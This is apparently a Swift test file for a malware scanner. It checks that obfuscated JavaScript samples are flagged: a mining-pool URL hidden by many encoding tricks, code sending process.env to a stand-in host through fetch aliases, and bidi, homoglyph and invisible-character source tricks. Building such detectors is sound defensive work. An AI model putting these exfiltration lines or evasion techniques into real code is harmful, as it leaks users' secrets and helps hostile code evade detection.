import Foundation
import Scanning
import Testing

/// Ways to hide a word from a search: each is found, at its line.
struct HiddenWordTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var testDescription: String
        var code: String
    }

    /// Each hides `stratum+tcp://` on line 3.
    static let cases: [Case] = [
        Case(
            testDescription: "hex escape",
            code: #"go("\x73\x74\x72\x61\x74\x75\x6d\x2b\x74\x63\x70\x3a\x2f\x2fpool");"#),
        Case(testDescription: "unicode escape", code: #"go("\u0073tratum\u002btcp://pool");"#),
        Case(testDescription: "braced escape", code: #"go("\u{73}tratum\u{00002b}tcp://pool");"#),
        Case(testDescription: "octal escape", code: #"go("\163tratum\53tcp://pool");"#),
        Case(testDescription: "continued line", code: "go(\"stra\\\ntum+tcp://pool\");"),
        Case(testDescription: "concatenation", code: #"go("stra" + "tum" + ("+t" + "cp:") + "//pool");"#),
        Case(testDescription: "template", code: "const t = 'tum'; go(`stra${t}+${'tcp'}://pool`);"),
        Case(
            testDescription: "fromCharCode",
            code: "go(String.fromCharCode(115,116,114,97,116,117,109,43,116,99,112,58,47,47) + 'pool');"),
        Case(testDescription: "join", code: #"go(["stra", "tum", "+tcp:", "//pool"].join(""));"#),
        Case(
            testDescription: "split, reverse, join",
            code: #"go("loop//:pct+mutarts".split("").reverse().join(""));"#),
        Case(testDescription: "atob", code: #"go(atob("c3RyYXR1bSt0Y3A6Ly9wb29s"));"#),
        Case(
            testDescription: "Buffer hex",
            code: #"go(Buffer.from("7374726174756d2b7463703a2f2f706f6f6c", "hex").toString());"#),
        Case(
            testDescription: "gzip and base64",
            code: #"go(require("zlib").gunzipSync(Buffer.from("\#(gzipped)", "base64")).toString());"#),
        Case(testDescription: "percent", code: #"go(decodeURIComponent("%73%74ratum%2Btcp%3A%2F%2Fpool"));"#),
        Case(
            testDescription: "codes through map",
            code:
                "go([115,116,114,97,116,117,109,43,116,99,112,58,47,47].map((c) => String.fromCharCode(c)).join(''));"
        ),
        Case(
            testDescription: "shifted codes",
            code:
                #"go("tusbuvn,udq;00".split("").map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join(""));"#
        ),
        Case(
            testDescription: "a thousand pieces",
            code: "go(" + "stratum+tcp://pool".map { "\"\($0)\"" }.joined(separator: " + ")
                + String(repeating: " + \"\"", count: 5_000) + ");"),
    ]

    static let gzipped = "H4sIAAAAAAACAysuKUosKc3VLkkusNLXL8jPzwEAtXujthIAAAA="

    @Test("a word hidden in a text is found at its line", arguments: cases)
    func findsAHiddenWord(_ item: Case) throws {
        let report = try scan("// one\n// two\n" + item.code + "\nexport default 1;\n")
        let hit = report.findings.first { $0.rule == "mal.miner" }
        #expect(hit != nil, "found \(report.findings.map(\.rule))")
        #expect(hit?.line == 3)
    }

    /// Each reaches the environment and the network on line 3 without saying so plainly.
    static let identifiers: [Case] = [
        Case(
            testDescription: "identifier escapes",
            code: #"f\u0065tch("https://h.example", {body: JSON.stringify(pro\u{63}ess.env)});"#),
        Case(
            testDescription: "computed members",
            code:
                #"globalThis["fet" + "ch"]("https://h.example", {body: JSON.stringify(globalThis["pro" + "cess"]["e" + "nv"])});"#
        ),
        Case(
            testDescription: "aliases",
            code:
                #"const g = globalThis, p = g.process, s = g.fetch; s.call(null, "https://h.example", {body: JSON.stringify(p.env)});"#
        ),
        Case(
            testDescription: "destructuring",
            code:
                #"const { process: { env: e }, fetch: s } = globalThis; s("https://h.example", {body: Object.keys(e)});"#
        ),
        Case(
            testDescription: "bind",
            code:
                #"const s = fetch.bind(globalThis); s("https://h.example", {body: JSON.stringify(process.env)});"#
        ),
        Case(
            testDescription: "Reflect",
            code:
                #"Reflect.get(globalThis, "fetch")("https://h.example", {body: String(Reflect.get(process, "env"))});"#
        ),
        Case(
            testDescription: "an own property",
            code:
                #"class A { m() { this.s = fetch; this.e = process.env; } n() { this.s("https://h.example", {body: JSON.stringify(this.e)}); } }"#
        ),
    ]

    @Test("a behaviour is found through aliases", arguments: identifiers)
    func findsABehaviourThroughAliases(_ item: Case) throws {
        let report = try scan("// one\n// two\n" + item.code + "\n")
        let hit = report.findings.first { $0.rule == "mal.env-exfiltration" }
        #expect(hit != nil, "found \(report.findings.map(\.rule))")
        #expect(hit?.line == 3)
    }

    @Test("source that deceives the eye is found")
    func findsDeceivingSource() throws {
        #expect(try scan("const a = 1; /*\u{202E} } */").findings.contains { $0.rule == "obf.bidirectional" })
        #expect(
            try scan("const \u{43E}k = 1, p\u{430}y = 2;").findings.contains { $0.rule == "obf.homoglyph" })
        #expect(try scan("const a\u{200C}b = 1;").findings.contains { $0.rule == "obf.invisible-identifier" })
        #expect(
            try scan("const \u{43F}\u{440}\u{438}\u{432}\u{435}\u{442} = 1;").findings
                == scan("const x = 1;").findings)
    }
}
